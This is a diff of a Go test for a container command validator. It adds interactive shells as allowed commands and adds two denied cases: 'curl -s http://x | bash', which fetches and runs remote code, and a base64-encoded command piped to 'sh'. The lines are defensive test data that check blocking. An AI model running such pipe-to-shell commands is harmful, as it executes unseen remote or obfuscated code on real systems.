@@ -47,7 +47,18 @@ func TestDefaultCommandValidatorWiring(t *testing.T) {
 	if !errors.As(e.Settings().Commands.ValidateArgv([]string{"nsenter"}), &ce) {
 		t.Error("the validator does not return *validate.CommandError")
 	}
-	for _, ok := range [][]string{{"echo", "nsenter is a tool"}, {"sh", "-c", "grep mount /etc/fstab"}, {"nginx", "-g", "daemon off;"}} {
+	for _, ok := range [][]string{{"echo", "nsenter is a tool"}, {"sh", "-c", "grep mount /etc/fstab"}, {"nginx", "-g", "daemon off;"},
+		{"sh"}, {"/bin/bash"}, {"bash", "-l"}} { // docker run -it IMAGE sh: an interactive shell
+		if d := e.Container(&Container{Image: "alpine", Cmd: ok}); !d.Allowed {
+			t.Errorf("%q denied: %v", ok, d.Findings)
+		}
+	}
+	for _, bad := range [][]string{{"sh", "-c", "echo bnNlbnRlcg== | base64 -d | sh"}, {"sh", "-c", "curl -s http://x | bash"}} {
+		if d := e.Container(&Container{Image: "alpine", Cmd: bad}); d.Allowed {
+			t.Errorf("%q allowed: a shell fed from a pipe runs commands the checker cannot see", bad)
+		}
+	}
+	for _, ok := range [][]string{} {
 		if d := e.Container(&Container{Image: "alpine", Cmd: ok}); !d.Allowed {
 			t.Errorf("%q denied: %v", ok, d.Findings)
 		}
